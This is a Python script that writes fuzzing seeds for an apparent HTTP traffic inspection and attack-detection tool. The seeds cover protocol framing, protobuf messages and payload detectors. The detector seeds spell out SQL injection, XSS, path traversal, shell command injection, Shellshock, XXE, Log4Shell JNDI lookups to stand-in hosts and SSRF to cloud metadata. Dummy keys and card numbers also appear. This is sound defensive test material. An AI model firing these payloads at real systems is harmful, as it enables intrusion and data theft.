#!/usr/bin/env python3
"""tests/fuzz/seeds.py OUTDIR - starting inputs for the fuzz targets, made
from the formats themselves (written at build time, nothing binary is
committed): OUTDIR/conn (capture records, see fuzz_conn.c), OUTDIR/ingest
(Batch messages), OUTDIR/blocklist (block list messages, see
fuzz_blocklist.c), OUTDIR/ident (a JWT, identity specs), OUTDIR/detect (payloads: a byte choosing where they came
from, then the value; the public lists in ../shared/data/payloads add more
when present), OUTDIR/rules (deploy/rules.yaml), OUTDIR/ring (deploy/ring.txt
and variants), OUTDIR/inflate (raw, zlib and gzip streams of a JSON body:
a byte choosing wrapper and output bound, then the stream). Protobuf is encoded by
hand from proto/sidewatch.proto's field numbers."""
import os
import struct
import sys

out = sys.argv[1]


def put(sub, name, data):
    os.makedirs(os.path.join(out, sub), exist_ok=True)
    with open(os.path.join(out, sub, name), "wb") as f:
        f.write(data)


# --- capture records -----------------------------------------------------
def rec(payload, resp=False, conn=0, guess=1, gap=False, close=False):
    h = (1 if resp else 0) | conn << 1 | (0x08 if gap else 0) | \
        (0x20 if close else 0) | guess << 6
    n = payload if gap else len(payload)
    return bytes([h]) + struct.pack("<H", n) + (b"" if gap else payload)


req = b"GET /api/users/42?id=1 HTTP/1.1\r\nHost: api.test\r\nUser-Agent: fuzz\r\n\r\n"
resp = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{\"id\":42}"
put("conn", "h1", rec(req) + rec(resp, True) + rec(b"", close=True))
put("conn", "h1-sqli-chunked",
    rec(b"POST /api/login?user=a'%20OR%201=1-- HTTP/1.1\r\nHost: x\r\n"
        b"Transfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n"
        b"b\r\n{\"u\":\"<a>\"}\r\n0\r\n\r\n")
    + rec(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n", True))
# chunk lines llhttp refuses and nginx serves, read nginx's way
# (h1_chunk.h), each record cutting a line, and a chunked response
put("conn", "h1-chunk-lines",
    rec(b"POST /c HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n5 ;a=b;c")
    + rec(b"=d\r\nid=1'\n0005\t;x=\"y\"z\n OR 1\r")
    + rec(b"\n0 \r\n\r\n")
    + rec(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;a=b;c=d\nabc\n0\n\r\n", True))
# pipelined past the 64 requests the decoder holds: the rest are judged
# unqueued and their answers skipped in turn (h1.h)
put("conn", "h1-pipeline-deep",
    rec(req * 66 + b"GET /x?id=1%27 HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\n\r\n")
    + rec(resp * 40, True) + rec(resp * 27, True)
    + rec(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n", True)
    + rec(b"", close=True))
# request and header lines llhttp refuses and nginx serves, read nginx's
# way (h1_line.h), records cutting the method, the version and a name
put("conn", "h1-req-lines",
    rec(b"FOO_BA")
    + rec(b"R  h2+x://a.test/p?id=1 HTTP/1.0")
    + rec(b"1  \r\nHost: h\r\nX\xff=\"Y: a\r\nXYZ\r\nContent-Length: 2\r\n\r\nab"
          b"GET /n?id=2\r\n")
    + rec(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", True))
put("conn", "h1-pipelined-gap",
    rec(req + req) + rec(resp, True) + rec(40, True, gap=True) + rec(resp, True))
# a 100000-byte answer: the table asks to skip 4 KiB into its body to its
# end; the gaps after the first 8 KiB fall in that range (sent as skips)
big_head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
put("conn", "h1-skip-range",
    rec(req) + rec(big_head, True) + rec(b"[" + b"7" * 8191, True) + rec(30000, True, gap=True)
    + rec(61808, True, gap=True) + rec(req) + rec(resp, True))
put("conn", "h1-client-side",
    rec(req, True, conn=3) + rec(resp, False, conn=3))
ws_req = (b"GET /chat HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
          b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
          b"Origin: http://x\r\n\r\n")
ws_resp = (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
mask = b"\x01\x02\x03\x04"
text = b"hello"
masked = bytes(c ^ mask[i % 4] for i, c in enumerate(text))
put("conn", "websocket",
    rec(ws_req) + rec(ws_resp, True) + rec(b"\x81\x85" + mask + masked)
    + rec(b"\x81\x05hello", True) + rec(b"\x89\x80" + mask)
    + rec(b"\x88\x82" + mask + bytes(c ^ mask[i] for i, c in enumerate(b"\x03\xe8"))))

# permessage-deflate agreed: two compressed client messages on one
# stream (the second refers back into the first), a binary one between
def ws_deflate_seed():
    import zlib
    c = zlib.compressobj(6, zlib.DEFLATED, -12)
    out = b""
    for op, m in ((0x1, b'{"q":"select a seat"}'), (0x2, b"\x00\x01bin"),
                  (0x1, b'{"q":"select a seat"} or 1=1')):
        z = (c.compress(m) + c.flush(zlib.Z_SYNC_FLUSH))[:-4]
        out += rec(bytes([0xc0 | op, 0x80 | len(z)]) + mask
                   + bytes(b ^ mask[i % 4] for i, b in enumerate(z)))
    resp = ws_resp[:-2] + (b"Sec-WebSocket-Extensions: permessage-deflate; "
                           b"client_max_window_bits=12\r\n\r\n")
    put("conn", "websocket-deflate", rec(ws_req) + rec(resp, True) + out)


ws_deflate_seed()

# found by the fuzzer (CI, 2026-11-25): the HTTP/2 preface on the request
# side while the 101 answering an Upgrade is half received; freeing the
# connection read the queued record the response side still pointed at
put("conn", "regress-preface-during-101",
    rec(ws_req) + rec(ws_resp[:20], True)
    + rec(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))

# issue 23: what a server accepts is decoded and judged. Empty lines before
# a request line; header syntax llhttp reads leniently (control bytes in a
# value, bare LF) with a pipelined request behind; a parse error followed
# by a pipelined request in the same read; a header past the event's table
# (judged in a window); a form body past the kept prefix (body windows).
put("conn", "h1-leading-crlf",
    rec(b"\r\n\r\n\n" + req) + rec(resp, True))
put("conn", "h1-crlf-own-records",
    rec(b"\r\n") + rec(b"\r\n\r") + rec(b"\n" + req) + rec(resp, True))
put("conn", "h1-lenient-pipelined",
    rec(b"GET /c?id=1 HTTP/1.1\r\nHost: h\r\nX-Ctl: a\x01b\x7fc\r\n\r\n"
        b"GET /l?id=1' OR 1=1-- HTTP/1.1\nHost: h\nX-A: b\n\n" + req)
    + rec(resp + resp + resp, True))
put("conn", "h1-parse-error-then-pipelined",
    rec(b"GET /x HTTP/1.1\r\nHost: h\r\nBad Header Line\r\n\r\n\r\n"
        b"GET /y?id=1%27%20OR%201=1-- HTTP/1.1\r\nHost: h\r\n\r\n")
    + rec(resp + resp, True))
many = b"".join(b"X-Pad-%d: v%d\r\n" % (i, i) for i in range(120))
put("conn", "h1-header-past-table",
    rec(b"GET /h HTTP/1.1\r\nHost: h\r\n" + many + b"User-Agent: 1' OR 1=1--\r\n\r\n")
    + rec(resp, True))
form = b"pad=" + b"a" * 9000 + b"&id=1%27%20OR%201%3D1--"
put("conn", "h1-form-past-prefix",
    rec(b"POST /f HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: %d\r\n\r\n" % len(form) + form[:5000]) + rec(form[5000:])
    + rec(resp, True))


def frame(typ, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([typ, flags]) + \
        struct.pack(">I", sid) + payload


def lit(name, value):  # literal header field without indexing, new name
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
settings = frame(4, 0, 0, b"")
hdrs = b"\x82\x86\x84" + lit(b":authority", b"api.test")
put("conn", "h2",
    rec(preface + settings + frame(1, 5, 1, hdrs), guess=2)
    + rec(settings + frame(1, 4, 1, b"\x88") + frame(0, 1, 1, b"ok"), True, guess=2))
# a POST left open (no END_STREAM) past the server's limit of 1 stream,
# its body in two DATA frames with a sweep between them (a gap of 1 on
# another connection)
post = b"\x83\x86\x84" + lit(b":authority", b"api.test") + \
    lit(b"content-type", b"application/x-www-form-urlencoded")
put("conn", "h2-open-streams",
    rec(preface + settings, guess=2)
    + rec(frame(4, 0, 0, b"\x00\x03\x00\x00\x00\x01"), True, guess=2)
    + rec(frame(1, 4, 1, post) + frame(1, 4, 3, post) + frame(0, 0, 1, b"q=1' OR 1=1--"))
    + rec(1, gap=True, conn=2) + rec(frame(0, 0, 3, b"a" * 300)))
# compressed bodies (reqbody decodes them): gzip'd JSON over HTTP/1,
# deflate over HTTP/2 in two DATA frames, br, and a gzip'd response
import gzip as _gzip  # noqa: E402
import zlib as _zlib  # noqa: E402
_gz = _gzip.compress(b'{"q":"1\' OR \'1\'=\'1\' -- "}', mtime=0)
put("conn", "h1-gzip-body",
    rec(b"POST /s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(_gz) + _gz)
    + rec(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Type: application/json\r\n"
          b"Content-Length: %d\r\n\r\n" % len(_gz) + _gz, True))
put("conn", "h1-br-body",
    rec(b"POST /s HTTP/1.1\r\nHost: x\r\nContent-Encoding: br\r\nContent-Length: 9\r\n\r\n"
        b"\x0b\x02\x80hello\x03") + rec(resp, True))
_zz = _zlib.compress(b"q=1 union select password from users--")
put("conn", "h2-deflate-body",
    rec(preface + settings + frame(1, 4, 1, post + lit(b"content-encoding", b"deflate"))
        + frame(0, 0, 1, _zz[:10]), guess=2)
    + rec(frame(0, 1, 1, _zz[10:]), guess=2))
# PROXY protocol headers (a load balancer's, before the client's bytes):
# v1 and the request in one record, v1 dribbled, v2 alone then the
# request, v1 then TLS, a malformed v1 before a request
pp1 = b"PROXY TCP4 192.0.2.7 10.0.0.1 5555 80\r\n"
pp2 = b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\xc0\x00\x02\x07\x0a\x00\x00\x01\x15\xb3\x00\x50"
put("conn", "proxy-v1", rec(pp1 + req) + rec(resp, True))
put("conn", "proxy-v1-dribbled", rec(pp1[:4]) + rec(pp1[4:20]) + rec(pp1[20:] + req) + rec(resp, True))
put("conn", "proxy-v2", rec(pp2) + rec(req) + rec(resp, True))
put("conn", "proxy-then-tls", rec(pp1) + rec(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"))
put("conn", "proxy-bad", rec(b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\n" + req) + rec(resp, True))
# past the table's 256 KiB memory budget: 30 open streams on one
# connection, then 20 unfinished pipelined uploads on another, then a
# benign exchange on a third (shed state is emitted; the table stays
# within its budget)
put("conn", "mem-budget-shed",
    rec(preface + settings + b"".join(frame(1, 4, 1 + 2 * i, post) for i in range(30)), guess=2)
    + rec(b"".join(b"POST /x%d HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nq=1'&" % i
                   for i in range(20)) + b"POST /y HTTP/1.1\r\nHost: a\r\nContent-Length: 900\r\n\r\n",
          conn=1)
    + rec(req, conn=2) + rec(resp, True, conn=2))
# the preface dribbled (first read "PRI", guessed HTTP/1), the server's
# SETTINGS in between; and a POST dribbled the same way
put("conn", "h2-preface-dribbled",
    rec(preface[:3]) + rec(settings, True)
    + rec(preface[3:] + settings + frame(1, 5, 1, hdrs))
    + rec(frame(4, 1, 0, b"") + frame(1, 4, 1, b"\x88") + frame(0, 1, 1, b"ok"), True))
put("conn", "h1-post-dribbled",
    rec(b"P") + rec(b"OST /a HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\nhi")
    + rec(resp, True))
g = (b"\x83\x86" + lit(b":path", b"/pkg.Svc/Get") + lit(b":authority", b"x")
     + lit(b"content-type", b"application/grpc") + lit(b"te", b"trailers"))
msg = b"\x00" + struct.pack(">I", 3) + b"\x08\x96\x01"
put("conn", "grpc",
    rec(preface + settings + frame(1, 4, 1, g) + frame(0, 1, 1, msg), guess=2)
    + rec(settings + frame(1, 4, 1, b"\x88" + lit(b"content-type", b"application/grpc"))
          + frame(0, 0, 1, msg) + frame(1, 5, 1, lit(b"grpc-status", b"0")), True, guess=2))
# gRPC with grpc-encoding gzip: one gzip'd message in two DATA frames,
# then one in a coding not decoded (flag 1, no gzip or zlib bytes)
def grpc_gzip_seed():
    import gzip
    z = gzip.compress(b"\x0a\x0c1' OR 1=1--" + b"\x12\x20" + b"lang=en " * 4, mtime=0)
    m = b"\x01" + struct.pack(">I", len(z)) + z
    odd = b"\x01" + struct.pack(">I", 5) + b"\x05\x00hi!"
    gz = g + lit(b"grpc-encoding", b"gzip")
    put("conn", "grpc-gzip",
        rec(preface + settings + frame(1, 4, 1, gz) + frame(0, 0, 1, m[:20]), guess=2)
        + rec(frame(0, 0, 1, m[20:]) + frame(0, 1, 1, odd), guess=2)
        + rec(settings + frame(1, 4, 1, b"\x88" + lit(b"content-type", b"application/grpc"))
              + frame(1, 5, 1, lit(b"grpc-status", b"0")), True, guess=2))


grpc_gzip_seed()
put("conn", "h2-midstream",
    rec(frame(1, 5, 3, b"\x82\x86\x84"), guess=3) + rec(frame(1, 5, 3, b"\x88"), True, guess=3))


# identities on the wire: a JWT bearer, Basic, an API key, a session cookie
jwt = b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln"
put("conn", "h1-identities",
    rec(b"GET /api/me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + jwt + b"\r\n\r\n"
        b"POST /api/login HTTP/1.1\r\nHost: x\r\nAuthorization: Basic Ym9iOnB3\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 21\r\n\r\n"
        b"username=bob&pass=pw1"
        b"GET /api/k HTTP/1.1\r\nHost: x\r\nX-API-Key: k-123\r\nCookie: session=abc\r\n\r\n")
    + rec(resp + b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n" + resp, True))
put("ident", "jwt", jwt)
put("ident", "spec-sub", b"sub:alice")
put("ident", "spec-apikey", b"apikey:k-123")
put("ident", "spec-cookie", b"cookie:session=abc")

# --- protobuf ------------------------------------------------------------
def varint(v):
    b = bytearray()
    while True:
        x = v & 0x7f
        v >>= 7
        if v:
            b.append(x | 0x80)
        else:
            b.append(x)
            return bytes(b)


def f_var(n, v):
    return varint(n << 3) + varint(v)


def f_len(n, data):
    return varint(n << 3 | 2) + varint(len(data)) + data


def zz(v):
    return (v << 1) ^ (v >> 31)


event = (f_var(2, 0) + f_var(3, 1800000000000000) + f_len(5, bytes([10, 213, 0, 9]))
         + f_var(6, 50000) + f_len(7, bytes([10, 213, 0, 1])) + f_var(8, 443)
         + f_var(9, 42) + f_len(10, b"nginx") + f_var(11, 1) + f_len(12, b"GET")
         + f_len(13, b"api.test") + f_len(14, b"/api/users/42") + f_len(15, b"q=1")
         + f_var(16, 200) + f_var(17, 120) + f_var(18, 512) + f_var(19, 150)
         + f_var(23, zz(-1)) + f_var(32, zz(-1))
         + f_len(34, f_len(1, b"h1.parse_error") + f_var(2, 2))
         + f_var(42, 123456) + f_var(44, 1800000000150000))
verdict = (f_var(1, 1) + f_var(2, 2) + f_var(3, 1800000000000000)
           + f_len(14, b"/pkg.Svc/Get'\"\\\xff") + f_len(21, b"pkg.Svc") + f_len(22, b"Get")
           + f_var(23, zz(12)) + f_len(33, b"id:00000000000000ff") + f_len(35, b"sqli")
           + f_len(36, b"high") + f_len(37, b"kill") + f_var(38, 500) + f_var(39, 900))
ws = (f_var(2, 3) + f_var(3, 1800000000000000) + f_var(26, 2) + f_len(27, b"http://x")
      + f_var(28, 3) + f_var(29, 4) + f_var(32, zz(1000)) + f_len(43, b"chat"))
hb = f_len(1, b"h1") + f_len(2, b"0.4") + f_var(3, 60) + f_len(5, f_len(1, b"events") + f_var(2, 7))
head = f_var(1, 1) + f_len(2, b"host-1") + f_var(3, 7)
put("ingest", "batch", head + f_len(4, event) + f_len(4, verdict) + f_len(4, ws))
put("ingest", "heartbeat", head + f_len(5, hb))


# API inventory: Batch.endpoints (6), EndpointSummary with packed counts,
# named counts and a parameter; one with a hostile template, one refused
def packed(n, vals):
    return f_len(n, b"".join(varint(v) for v in vals))


param = (f_len(1, b"$.email") + f_len(2, b"json") + f_var(3, 16) + f_var(4, 3)
         + f_var(5, 13) + f_var(6, 13) + f_len(7, b"a@a.a") + f_var(8, 1))
summary = (f_var(1, 1) + f_var(2, 1800000000000000) + f_len(3, b"api.test")
           + f_len(4, b"POST") + f_len(5, b"/users/{id}") + f_var(6, 0)
           + f_var(7, 1800000000000000) + f_var(8, 1800000000100000) + f_var(9, 3)
           + packed(10, [0, 0, 3, 0, 0, 0]) + packed(11, [0] * 9 + [3] + [0] * 22)
           + f_len(14, f_len(1, b"none") + f_var(2, 3)) + f_var(15, 3) + f_var(16, 3)
           + f_len(17, b"HS256") + f_len(23, b"application/json")
           + f_len(24, f_len(1, b"card") + f_var(2, 3)) + f_len(25, param))
hostile = (f_var(1, 1) + f_var(2, 5) + f_len(4, b"GET")
           + f_len(5, b"/x\"'\x1b[31m\x00\xff") + f_var(9, 2 ** 64 - 1))
refused = f_var(1, 0) + f_len(5, b"/r")
put("ingest", "inventory",
    head + f_len(6, summary) + f_len(6, hostile) + f_len(6, refused))

entry4 = f_len(1, bytes([10, 213, 5, 0])) + f_var(2, 24) + f_len(4, b"fleet.scan") + f_var(5, 1900000000000000)
entry_id = f_len(3, b"sub:alice") + f_len(4, b"fleet.identity")
snap = f_var(1, 1) + f_var(2, 5) + f_len(3, entry4) + f_len(3, entry_id)
delta = f_var(1, 1) + f_var(2, 5) + f_var(3, 6) + f_len(4, f_len(1, bytes([10, 0, 0, 1])) + f_var(2, 32)) + f_len(5, entry4)


def msg_rec(kind, data):  # fuzz_blocklist.c framing: 1 = snapshot, 0 = delta
    return bytes([kind]) + struct.pack("<H", len(data)) + data


# on the wire a snapshot starts with 'S' and a delta with its topic 'D'
put("blocklist", "snapshot-delta",
    msg_rec(1, b"S" + snap) + msg_rec(0, b"D" + delta) + msg_rec(2, b"D" + f_var(1, 1) + f_var(2, 6) + f_var(3, 6)))
# fuzz_blocklist_fan.c: the same framing, bits 2-7 (mod 3) the shard
put("blocklist_fan", "three-shards",
    msg_rec(1, b"S" + snap) + msg_rec(1 | 4, b"S" + snap) + msg_rec(1 | 8, b"S" + snap)
    + msg_rec(4, b"D" + delta) + msg_rec(2 | 8, b"D" + delta))

# --- sensitive data classes (fuzz_dataclass: first byte even = JSON body,
# odd = one value named by the bytes up to the first NUL) -----------------
put("dataclass", "json-customers",
    b"\x00" + b'{"customers":[{"email":"a@example.com","card":"4111 1111 1111 1111",'
    b'"iban":"GB82WEST12345698765432","phones":["+14155552671"]}],'
    b'"auth":{"password":"s3cr3t","token":"eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."}}')
put("dataclass", "value-ssn", b"\x01ssn\x00123-45-6789")
put("dataclass", "value-keys",
    b"\x01\x00AKIAIOSFODNN7EXAMPLE ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789 "
    b"-----BEGIN RSA PRIVATE KEY----- Bearer abcdefghijklmnop1234")
# once looped for ever: a '+' number after a '.'
put("dataclass", "regress-plus-after-dot", b"\x01\x00" + b"1111.+1 x_+2")
put("dataclass", "json-deep", b"\x00" + b"[" * 64 + b'"x@example.com"' + b"]" * 64)


# --- the endpoint learner (fuzz_inventory: method, path, template, query,
# header name, header value, body, response type, response body;
# NUL-separated) -----------------------------------------------------------
put("inventory", "json-post",
    b"POST\x00/users/12/orders\x00/users/{id}/orders\x00limit=10&sort=asc\x00"
    b"content-type\x00application/json\x00"
    b'{"item":{"sku":"AB-1","qty":2},"tags":["x"],"email":"a@example.com"}')
put("inventory", "form-jwt",
    b"PUT\x00/a/b\x00/{x}/{x}\x00api_key=k\x00authorization\x00"
    b"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.\x00a=1&b=%41+c")
put("inventory", "json-response",
    b"GET\x00/customers\x00/customers\x00limit=2\x00accept\x00*/*\x00\x00"
    b"application/json; charset=utf-8\x00"
    b'{"customers":[{"email":"a@example.com","card":"4111111111111111"},'
    b'{"email":"b@example.org","card":"5555555555554444","phone":"+44 20 7946 0958"}]}')


# --- detectors and rules ---------------------------------------------------
here = os.path.dirname(os.path.abspath(__file__))
for i, (where, v) in enumerate([
        (2, b"id=1' OR '1'='1"), (2, b"q=<script>alert(1)</script>"),
        (1, b"/static/../../etc/passwd"), (2, b"host=127.0.0.1;cat /etc/passwd"),
        (3, b"${jndi:ldap://x/a}"), (5, b'{"name":"{{7*7}}","url":"http://169.254.169.254/"}'),
        (4, b"session=abc; q=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
        (2, b"q=%252e%252e%252f&x=a+b"),
        # past PAYLOAD_MAX_VALUE: judged in overlapping windows (issue 23)
        (2, b"q=" + b"(" * 6000 + b"' or 1=1--"),
        (5, b"pad=" + b"a" * 4090 + b"&id=1%27%20OR%201%3D1--"),
        # multipart/form-data (a boundary "b" body, and a Content-Type)
        (5, b'--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n1\' or 1=1--\r\n'
            b'--b\nContent-Disposition: form-data; name=f; filename="../x"\n\nz\n--b--'),
        (5, b'multipart/form-data; boundary="b"; charset=x')]):
    put("detect", "seed-%d" % i, bytes([where - 1]) + v)
lists = os.path.join(here, "..", "..", "..", "shared", "data", "payloads")
if os.path.isdir(lists):
    n = 0
    for root, _, files in os.walk(lists):
        for name in sorted(files):
            try:
                with open(os.path.join(root, name), "rb") as f:
                    lines = [l for l in f.read().split(b"\n") if l.strip()]
            except OSError:
                continue
            for l in lines[:: max(1, len(lines) // 20)][:20]:
                put("detect", "list-%d" % n, bytes([n % 5]) + l[:1024])
                n += 1
# file, shell and data-format classes: encodings, DTDs, operators
for i, (where, v) in enumerate([
        (2, b"f=..%c0%af..%c0%afetc%c0%afpasswd&g=%f0%80%80%ae%f0%80%80%ae/"),
        (2, b"f=%uff0e%uff0e%u2215boot.ini&g=0x2e0x2e/0x2e0x2e/etc/passwd&h=..%00/"),
        (2, b"f=php://filter/convert.base64-encode/resource=../.env"),
        (2, b"c=;c'a't${IFS}/etc/passwd&d=|{ls,-la,/}&e=;/???/??t+/???/p??s??"),
        (2, b"c=%26+dir+c:%5C&d=%7C+cmd.exe+/c+whoami&e=;w$()hoami"),
        (3, b"() { :; }; /bin/bash -c 'cat /etc/passwd'"),
        (3, b"() { _; } >_[$($())] { id; }"),
        (5, b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://x/e.dtd">%p;'
            b'<!ENTITY x SYSTEM "file:///etc/passwd">]><r a="&x;"><![CDATA[x]]>&x;</r>'),
        (5, b'<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><xi:include href="x"/>'),
        (5, b'{"user":{"$ne":null},"$where":"sleep(1)","constructor":{"prototype":{"a":1}}}'),
        (2, b"user[$regex]=.*&__proto__[admin]=1&x[constructor][prototype][y]=1"),
        (2, b"u=http://169.254.169.254.nip.io/&v=//[fd00:ec2::254]/&w=0xa9fea9fe"),
        (3, b"${${lower:j}${upper:\xc4\xb1}ndi:ldap://x/a}${env:A:-j}${sys:x}"),
        # names and wrappers (payload_ssrf.c, payload_wrap.c): a redirect_uri,
        # base64 text, a JWT whose kid holds a lookup, one with a bad segment
        (2, b"redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2F&next=a%3Fredirect_uri%3Dhttp://10.0.0.1/"),
        (2, b"d=JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0%3D&e=eyIkbmUiOm51bGx9"),
        (3, b"Bearer eyJhbGciOiAiSFMyNTYiLCAia2lkIjogIiR7am5kaTpsZGFwOi8veC9hfSJ9.eyJzdWIiOiAiMSJ9.c2ln"),
        (3, b"eyJ7Ijoi.eyJcdTAwMjIiOiJcIiJ9."),
        # LDAP filters and XPath (payload_ldap.c): items, operators, an
        # extensible match, unions and axes, and the look-alikes
        (2, b"u=*)(uid=*))(|(uid=*&v=admin)(!(%26(1=0&w=*)(cn:dn:=x&x=*(|(mail=*))&y=f(x)(y=>1)"),
        (2, b"u=' and count(/*)=1 and '1'='1&v=')] | //user/*[contains(*,'&w=count(/child::node())"),
        (5, b'{"u":"x\' or name()=\'a\' or \'","v":"test\'|/b[i]n/ls","w":"parent::__construct()"}')]):
    put("detect", "data-%d" % i, bytes([where - 1]) + v)
# the generated SQL injection and XSS tables (tools/gen-sqli-xss.py) and
# the tricky benign values: every context, technique and encoding the two
# grammars know, a sample of each, plus the shapes that must stay quiet
n = 0
for name in ("gen-sqli.txt", "gen-xss.txt"):
    with open(os.path.join(here, "..", "data", name), "rb") as f:
        lines = [l for l in f.read().split(b"\n") if l.strip()]
    for l in lines[::max(1, len(lines) // 40)][:40]:
        put("detect", "gen-%d" % n, bytes([(n % 5) | (0x80 if n % 2 else 0)]) + l)
        n += 1
for v in (b"5' 10\" tall", b"$('#menu').toggle()", b"onClick={() => setOpen(true)}",
          b"{{ customer.first_name }}", b"<svg> icons", b"sleep(8) hours",
          b"x onmouseover=alert(1) y=", b"<style>@im\\port'\\ja\\vasc\\ript:x'</style>",
          b"1) AND 9454 NOT BETWEEN 0 AND 9453 AND (1226=1226", b"`) AND 1=1 AND (`a`=`a"):
    put("detect", "gen-%d" % n, bytes([n % 5]) + v)
    n += 1
with open(os.path.join(here, "..", "..", "deploy", "rules.yaml"), "rb") as f:
    put("rules", "default", f.read())

# --- shard ring (common/ring.h): the example and shapes near the limits
with open(os.path.join(here, "..", "..", "deploy", "ring.txt"), "rb") as f:
    put("ring", "example", f.read())
put("ring", "weights", b"version 9\nx ipc:///tmp/x 16 # heavy\ny\tipc:///tmp/y\t1\n")
put("ring", "dup-name", b"version 1\na tcp://h:1 1\na tcp://h:2 1\n")
put("ring", "no-newline", b"version 2\nz tcp://h:1 3")
put("ring", "many", b"version 1\n" + b"".join(b"s%d tcp://h%d:1 1\n" % (i, i) for i in range(64)))


# --- compressed bodies (fuzz_inflate.c) ------------------------------------
def inflate_seeds():
    import gzip
    import zlib
    body = b'{"user":"alice","q":"1 OR 1=1","items":[1,2,3,3,3,3,3,3,3]}' * 8
    for lvl in (0, 1, 9):
        for wb, w in ((-15, 0), (15, 1), (31, 2)):
            c = zlib.compressobj(lvl, zlib.DEFLATED, wb)
            put("inflate", "l%d-w%d" % (lvl, w), bytes([w | 20 << 2]) + c.compress(body) + c.flush())
    two = gzip.compress(body[:100]) + gzip.compress(body[100:], mtime=0)
    put("inflate", "gzip-2", bytes([2 | 63 << 2]) + two)
    put("inflate", "gzip-cut", bytes([2 | 63 << 2]) + two[:60])
    put("inflate", "zeros", bytes([2 | 63 << 2]) + gzip.compress(bytes(100000)))
    # history mode (wrapper 3): raw DEFLATE using a preset window, as
    # permessage-deflate's context takeover does
    hist = bytes((i * 7 ^ i >> 3) & 0xff for i in range(20 * 257 // 2))
    c = zlib.compressobj(6, zlib.DEFLATED, -15, zdict=hist)
    put("inflate", "hist", bytes([3 | 20 << 2]) + c.compress(hist[100:400] + body[:80])
        + c.flush(zlib.Z_SYNC_FLUSH))


inflate_seeds()

# --- bodies in a charset (fuzz_charset.c: a byte choosing the type and
# the output bound, then the body) ------------------------------------------
def pct(b):
    return "".join("%%%02X" % c for c in b).encode()


put("charset", "ibm037-form", bytes([0xF0]) + b"q=" + pct("1' union select 1--".encode("cp037")))
put("charset", "utf16-form", bytes([0xF1]) + pct("q".encode("utf-16le")) + b"=" +
    pct("<script>alert(1)</script>".encode("utf-16")) + b"&%u0027+x")
put("charset", "utf7-form", bytes([0xF2]) + b"q=+ADw-svg+AD4-&a=+-")
put("charset", "utf16-json", bytes([0xFC]) + '{"a":"\U0001F600 x"}'.encode("utf-16le"))
put("charset", "utf32-json", bytes([0x7C]) + '{"a":1}'.encode("utf-32be"))
put("charset", "ebcdic-xml", bytes([0x8D]) +
    '<?xml version="1.0" encoding="IBM500"?><r>&amp;</r>'.encode("cp500"))
put("charset", "ctype", bytes([0x35]) + b'text/plain; charset="CCSID01140"; x=y')
